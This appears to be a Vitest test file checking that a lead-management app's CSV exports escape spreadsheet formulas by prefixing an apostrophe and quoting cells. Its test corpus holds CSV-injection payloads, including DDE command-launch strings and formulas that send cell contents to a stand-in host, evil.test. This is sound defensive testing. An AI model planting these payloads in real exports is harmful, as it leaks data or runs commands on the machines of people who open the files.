import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_COLUMNS } from '../../src/server/modules/leads/lead-export';
import { SCRAPED_EXPORT_COLUMNS } from '../../src/server/modules/botgit/scraped-export';
import type { Lead } from '../../src/shared/schemas/leads';
import type { ScrapedProfile } from '../../src/shared/schemas/botgit';
import { createTestApp, type TestApp } from './support/test-app';
import { insertUser, insertWorkspace, type TestUser } from './support/users';
import { emptyWorkspaceOwner, importCsv, insertLeads } from './support/leads';

/**
 * docs/security.md#stored-content: a CSV-injection corpus through every text field of a lead (written straight, through the API
 * and through a CSV import) and of a scraped profile, out through both exports. A cell a spreadsheet would
 * evaluate (starting with =, +, -, @, tab or CR) carries a leading apostrophe, every other cell is the
 * stored text exactly, every value is quoted with its quotes doubled, and no value breaks into another
 * cell or row — whatever commas, quotes and line breaks it holds.
 */
const CORPUS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
  '=IMPORTXML(CONCAT("http://evil.test/?",A2),"//a")',
  '=WEBSERVICE("http://evil.test/")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  '\t=1+1',
  '\r=1+1',
  '=1+1\n=2+2',
  '"=1+1"',
  '=1+1,=2+2',
  'a,"b",c',
  'line one\r\nline two',
  '-',
  '+',
  '@',
  '+91 98450 12345',
  '-42',
  'plain text',
  "'already quoted",
  '＝1+1',
  ' =1+1',
  'Ünïcødé 😀 名前',
];

/** The server's rule, from the outside: formulas get an apostrophe, nothing else changes. */
const FORMULA_START = /^[=+\-@\t\r]/;
const exported = (stored: string) => (FORMULA_START.test(stored) ? `'${stored}` : stored);

/** Every cell is quoted and its quotes doubled: nothing but `"…"` separated by commas, CRLF between rows. */
function expectQuotedRfc4180(body: string, columns: number) {
  const parsed = Papa.parse<string[]>(body, { newline: '\r\n', skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  for (const row of parsed.data) expect(row).toHaveLength(columns);
  expect(body.endsWith('\r\n')).toBe(true);
  return parsed.data;
}

describe('CSV injection through both exports', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(async () => t?.close());

  const exportLeads = (user: TestUser) =>
    t.app.inject({ method: 'GET', url: '/api/leads/export', headers: user.headers });

  async function storedLeads(user: TestUser): Promise<Lead[]> {
    const answer = await t.app.inject({
      url: '/api/leads?limit=100&sort=name&order=asc',
      headers: user.headers,
    });
    return answer.json().leads;
  }

  /** Export cells per e-mail, checked against what is stored, field by field. */
  async function expectLeadsExportSafe(user: TestUser, count: number) {
    const response = await exportLeads(user);
    expect(response.statusCode).toBe(200);
    const rows = expectQuotedRfc4180(response.body, EXPORT_COLUMNS.length);
    expect(rows[0]).toEqual(EXPORT_COLUMNS);
    expect(rows).toHaveLength(count + 1);
    const byEmail = new Map(rows.slice(1).map((row) => [row[1], row]));
    const leads = await storedLeads(user);
    expect(leads).toHaveLength(count);
    for (const lead of leads) {
      const row = byEmail.get(exported(lead.email));
      expect(row, lead.email).toBeDefined();
      const [name, , phone, company, status, source, , priority, notes] = row!;
      expect({ name, phone, company, status, source, priority, notes }).toEqual({
        name: exported(lead.name),
        phone: exported(lead.phone),
        company: exported(lead.company),
        status: lead.status,
        source: exported(lead.source),
        priority: lead.priority,
        notes: exported(lead.notes),
      });
    }
    return leads;
  }

  it('leads written as they are: every corpus value in every text field', async () => {
    const user = await emptyWorkspaceOwner(t, 'Formulas stored');
    await insertLeads(
      t,
      user.workspaceId,
      CORPUS.map((value, i) => ({
        name: value,
        email: `stored${i}@csv.test`,
        phone: value.slice(0, 40),
        company: value,
        source: value.slice(0, 60),
        notes: value,
      })),
    );
    const leads = await expectLeadsExportSafe(user, CORPUS.length);
    // Nothing was lost on the way in: the corpus is stored as written, leading tab and CR included.
    expect(new Set(leads.map((lead) => lead.notes))).toEqual(new Set(CORPUS));
  });

  it('leads added through the API and through a CSV import', async () => {
    const user = await emptyWorkspaceOwner(t, 'Formulas typed');
    for (const [i, value] of CORPUS.entries()) {
      const response = await t.app.inject({
        method: 'POST',
        url: '/api/leads',
        headers: user.headers,
        payload: {
          name: `${value}`.trim() || 'x',
          email: `typed${i}@csv.test`,
          company: value,
          notes: value,
        },
      });
      expect(response.statusCode, value).toBe(201);
    }
    const file = Papa.unparse(
      CORPUS.map((value, i) => ({
        Name: value.trim() || 'x',
        Email: `imported${i}@csv.test`,
        // Numbered: with the name and company of a lead above (or of a row whose value folds alike, "=1+1"
        // and "＝1+1"), a row would be a possible duplicate and not imported (docs/product/leads.md#duplicates).
        Company: `${value} #${i}`,
        Notes: value,
      })),
      { quotes: true, newline: '\r\n' },
    );
    const imported = await importCsv(t.app, user.headers, file);
    expect(imported.json()).toMatchObject({ imported: CORPUS.length, skipped: 0 });
    await expectLeadsExportSafe(user, 2 * CORPUS.length);
  });

  it('an export imported again gives back the same values: the apostrophes are read back off', async () => {
    const source = await emptyWorkspaceOwner(t, 'Formulas out');
    await insertLeads(
      t,
      source.workspaceId,
      CORPUS.map((value, i) => ({
        name: `Lead ${i}`,
        email: `trip${i}@csv.test`,
        company: value,
        notes: value,
      })),
    );
    const file = (await exportLeads(source)).body;
    const target = await emptyWorkspaceOwner(t, 'Formulas in');
    expect((await importCsv(t.app, target.headers, file)).json()).toMatchObject({ imported: CORPUS.length });
    const before = new Map((await storedLeads(source)).map((lead) => [lead.email, lead]));
    for (const lead of await storedLeads(target)) {
      const original = before.get(lead.email)!;
      // Import trims each cell, as the form does: the round trip keeps everything but outer spaces.
      expect([lead.company, lead.notes]).toEqual([original.company.trim(), original.notes.trim()]);
    }
  });

  it('scraped profiles: every corpus value in every text field', async () => {
    const workspace = await insertWorkspace(t, { name: 'Formulas scraped' });
    const user = await insertUser(t, { workspaceId: workspace.id, role: 'Business Admin' });
    const ingest = await t.app.inject({
      method: 'POST',
      url: '/api/scraped-data',
      headers: user.headers,
      payload: CORPUS.map((value, i) => ({
        profileUrl: `https://www.linkedin.com/in/csv-${i}`,
        name: value,
        email: '',
        phone: value.slice(0, 40),
        role: value,
        location: value,
      })),
    });
    expect(ingest.json().created).toBe(CORPUS.length);
    const response = await t.app.inject({
      method: 'POST',
      url: '/api/scraped-data/export',
      headers: user.headers,
      payload: {},
    });
    expect(response.statusCode).toBe(200);
    const rows = expectQuotedRfc4180(response.body, SCRAPED_EXPORT_COLUMNS.length);
    expect(rows[0]).toEqual(SCRAPED_EXPORT_COLUMNS);
    expect(rows).toHaveLength(CORPUS.length + 1);
    const stored: ScrapedProfile[] = (
      await t.app.inject({ url: '/api/scraped-data?limit=100', headers: user.headers })
    ).json().data;
    const byUrl = new Map(rows.slice(1).map((row) => [row[5], row]));
    for (const profile of stored) {
      const [name, email, phone, role, location] = byUrl.get(profile.profileUrl)!;
      expect({ name, email, phone, role, location }).toEqual({
        name: exported(profile.name),
        email: '',
        phone: exported(profile.phone),
        role: exported(profile.role),
        location: exported(profile.location),
      });
    }
  });
});
